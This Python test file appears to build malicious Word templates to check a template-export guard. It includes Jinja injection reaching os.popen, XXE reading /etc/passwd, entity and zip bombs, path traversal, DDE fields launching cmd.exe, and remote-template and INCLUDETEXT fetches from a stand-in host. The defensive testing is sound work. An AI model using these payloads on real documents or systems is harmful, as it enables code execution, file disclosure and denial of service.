"""Templates that mean harm: each is the shipped design with one attack in it.

Run as a program it takes the name of an attack and prints what the check says of it: ``python tests/hostile.py NAME``.
"""

from __future__ import annotations

import io
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT)]

from author.export.guard import check_template
from author.export.package import read_package

SHIPPED = (ROOT / "templates" / "word" / "loften_per_part.docx").read_bytes()
TITLE = "{{ titel }}"
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def packed(parts: dict[str, bytes]) -> bytes:
    """Pack parts as they are, checks left out."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return target.getvalue()


def with_text(text: str, part: str = "word/document.xml", old: str = TITLE) -> bytes:
    """Put a text in the place of the title, as Word would write it."""
    parts = read_package(SHIPPED, "x")
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    parts[part] = parts[part].decode().replace(old, escaped, 1).encode()
    return packed(parts)


def with_raw(raw: str) -> bytes:
    """Put XML after the first paragraph's start."""
    parts = read_package(SHIPPED, "x")
    parts["word/document.xml"] = parts["word/document.xml"].decode().replace("<w:body>", f"<w:body>{raw}", 1).encode()
    return packed(parts)


def with_part(name: str, content: bytes, kind: str = "") -> bytes:
    """Add a part, with a content type where one is given."""
    parts = read_package(SHIPPED, "x")
    parts[name] = content
    if kind:
        types = parts["[Content_Types].xml"].decode()
        parts["[Content_Types].xml"] = types.replace(
            "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
        ).encode()
    return packed(parts)


def with_relation(kind: str, target: str, part: str = RELATIONS) -> bytes:
    """Add a relationship out of the file."""
    parts = read_package(SHIPPED, "x")
    listing = parts.get(
        part, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    added = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    parts[part] = listing.decode().replace("</Relationships>", added).encode()
    return packed(parts)


def field(*codes: str) -> bytes:
    """Add a complex Word field whose code stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return with_raw(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def bomb(declared: int | None = None) -> bytes:
    """Give a package with a part that unpacks to 60 MB; optionally with a directory that lies about it."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in read_package(SHIPPED, "x").items():
            package.writestr(name, content)
        with package.open("word/media/x.bin", "w") as stream:
            for _ in range(60):
                stream.write(b"\0" * 1_000_000)
    data = bytearray(target.getvalue())
    if declared is not None:
        real = (60_000_000).to_bytes(4, "little")
        at = data.rfind(real)
        data[at : at + 4] = declared.to_bytes(4, "little")
    return bytes(data)


def doubled() -> bytes:
    """Give a package with two parts of the same name."""
    import warnings

    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w") as package:
        warnings.simplefilter("ignore")
        for name, content in read_package(SHIPPED, "x").items():
            package.writestr(name, content)
        package.writestr("word/document.xml", b"<x/>")
    return target.getvalue()


def moved_main() -> bytes:
    """Let the package's start point at another part than the one that looks harmless."""
    parts = read_package(SHIPPED, "x")
    parts["word/other.xml"] = parts["word/document.xml"].replace(TITLE.encode(), b"{{ titel.__class__ }}")
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"word/other.xml")
    return packed(parts)


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, (b"&%c;" % (97 + n)) * 10) for n in range(9))
    + b"]><x>&j;</x>"
)
SHELL = "{{ titel.__class__.__mro__[1].__subclasses__() }}"
NESTED = "".join(f"{{%p for a{n} in {'grupper' if n == 0 else f'a{n - 1}.åtaganden'} %}}" for n in range(2))
ATTACKS: dict[str, Callable[[], bytes]] = {
    "skalkommando": lambda: with_text("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    "underklasser": lambda: with_text(SHELL),
    "attribut-som-text": lambda: with_text("{{ titel|attr('__class__') }}"),
    "formatsträng": lambda: with_text("{{ '{0.__class__}'.format(titel) }}"),
    "upprepad-text": lambda: with_text("{{ 'a' * 10**9 }}"),
    "stort-tal": lambda: with_text("{{ 9**9**9 }}"),
    "konstant-i-villkor": lambda: with_text("{% if 'a'*10**9 %}{% endif %}{{ titel }}"),
    "makro": lambda: with_text("{% macro x() %}{% endmacro %}{{ titel }}"),
    "inkludera": lambda: with_text("{% include '/etc/passwd' %}{{ titel }}"),
    "importera": lambda: with_text("{% import 'x' as y %}{{ titel }}"),
    "sätt": lambda: with_text("{% set x = 1 %}{{ titel }}"),
    "räckvidd": lambda: with_text("{% for x in range(10**9) %}{% endfor %}{{ titel }}"),
    "slinga-i-slinga": lambda: with_raw(
        "".join(f"<w:p><w:r><w:t>{{%p for x{n} in grupper %}}</w:t></w:r></w:p>" for n in range(12))
        + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>" * 12
    ),
    "samma-lista-om-igen": lambda: with_raw(
        "<w:p><w:r><w:t>{%p for o in områden %}</w:t></w:r></w:p>"
        + "".join(f"<w:p><w:r><w:t>{{%p for x{n} in o.rader %}}</w:t></w:r></w:p>" for n in range(12))
        + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>" * 13
    ),
    "djupa-villkor": lambda: with_text("{% if titel %}" * 900 + "{% endif %}" * 900 + TITLE),
    "djupa-parenteser": lambda: with_text("{{ " + "(" * 5000 + "titel" + ")" * 5000 + " }}"),
    "många-inte": lambda: with_text("{{ " + "not " * 4000 + "titel }}"),
    "mycket-kod": lambda: with_text("{{ titel }}" * 5000),
    "klammerflod": lambda: with_text("{{" * 200_000 + TITLE),
    "klammerflod-i-attribut": lambda: with_raw(f'<w:p w:rsidR="{"{%" * 200_000}"/>'),
    "tagg-i-alternativtext": lambda: with_raw(f'<w:p w:rsidR="{SHELL}"/>'),
    "tagg-i-sidfot": lambda: with_text(SHELL, "word/footer1.xml", "{{ kontrollkod }}"),
    "tagg-i-fotnot": lambda: with_part(
        "word/footnotes.xml",
        f'<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote><w:p><w:r><w:t>{SHELL}'
        "</w:t></w:r></w:p></w:footnote></w:footnotes>".encode(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
    ),
    "tagg-i-sidhuvud-med-annat-namn": lambda: with_part(
        "word/x.xml",
        f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>{SHELL}</w:t></w:r></w:p>'
        "</w:hdr>".encode(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
    ),
    "annan-huvuddel": moved_main,
    "entitetsbomb": lambda: with_part("word/document.xml", LAUGHS),
    "entitetsbomb-utf16": lambda: with_part("word/document.xml", LAUGHS.decode().replace('"1.0"', '"1.0" encoding="utf-16"', 1).encode("utf-16")),
    "extern-entitet": lambda: with_part(
        "word/document.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    ),
    "extern-entitet-i-egenskaper": lambda: with_part(
        "docProps/core.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    ),
    "zipbomb": bomb,
    "zipbomb-som-ljuger": lambda: bomb(1000),
    "sökväg-uppåt": lambda: with_part("../../utanför.xml", b"<x/>"),
    "absolut-sökväg": lambda: with_part("/etc/x.xml", b"<x/>"),
    "två-med-samma-namn": doubled,
    "många-delar": lambda: packed({**read_package(SHIPPED, "x"), **{f"word/{n}.xml": b"<x/>" for n in range(5000)}}),
    "stor-del": lambda: with_raw("<w:p/>" * 500_000),
    "makron": lambda: with_part("word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject"),
    "inbäddat": lambda: with_part("word/embeddings/oleObject1.bin", b"x"),
    "inbäddat-med-annat-namn": lambda: with_part(
        "word/bild.bin", b"x", "application/vnd.openxmlformats-officedocument.oleObject"
    ),
    "annan-mall": lambda: with_relation("attachedTemplate", "http://example.test/x.dotm", "word/_rels/settings.xml.rels"),
    "länkad-bild": lambda: with_relation("image", "http://example.test/x.png"),
    "länkad-fil-på-server": lambda: with_relation("oleObject", r"\\server\delad\x.xlsx"),
    "skript-som-länk": lambda: with_relation("hyperlink", "javascript:alert(1)"),
    "inbäddad-webbsida": lambda: with_relation("aFChunk", "x.html"),
    "dde": lambda: field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "delad-dde": lambda: field("DD", "EAUTO c:\\\\cmd.exe"),
    "hämta-text": lambda: field(" INCLUDETEXT http://example.test/x"),
    "hämta-bild": lambda: field(' INCLUDEPICTURE "http://example.test/x"'),
    "citatfält": lambda: field(" QUOTE 68 68 69"),
    "makroknapp": lambda: field(" MACROBUTTON x y"),
    "användarnamn": lambda: field(" USERNAME "),
    "spårade-ändringar": lambda: with_raw(
        '<w:p><w:ins w:id="1" w:author="Anna Ek" w:date="2025-01-01T00:00:00Z"><w:r><w:t>nytt</w:t></w:r></w:ins></w:p>'
    ),
    "ingen-zip": lambda: b"PK\x03\x04" + b"\xff" * 1000,
    "tom-fil": lambda: b"",
}  # fmt: skip
"""Name -> the template."""


def said(name: str) -> tuple[str, ...]:
    """Give what the check says of an attack."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "egen.docx"
        path.write_bytes(ATTACKS[name]())
        return check_template(path)


def limited(name: str, seconds: int, megabytes: int) -> str:
    """Check an attack in this process, which then has so much left of time and memory; for a process of its own."""
    import resource

    content = ATTACKS[name]()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "egen.docx"
        path.write_bytes(content)
        resource.setrlimit(resource.RLIMIT_AS, (megabytes * 2**20, megabytes * 2**20))
        used = resource.getrusage(resource.RUSAGE_SELF)
        spent = int(used.ru_utime + used.ru_stime) + seconds
        resource.setrlimit(resource.RLIMIT_CPU, (spent, spent))
        return "\n".join(check_template(path))


if __name__ == "__main__":
    import time

    sys.stdout.write(f"{limited(sys.argv[1], 10, 256)}\n{time.process_time():.2f} s\n")
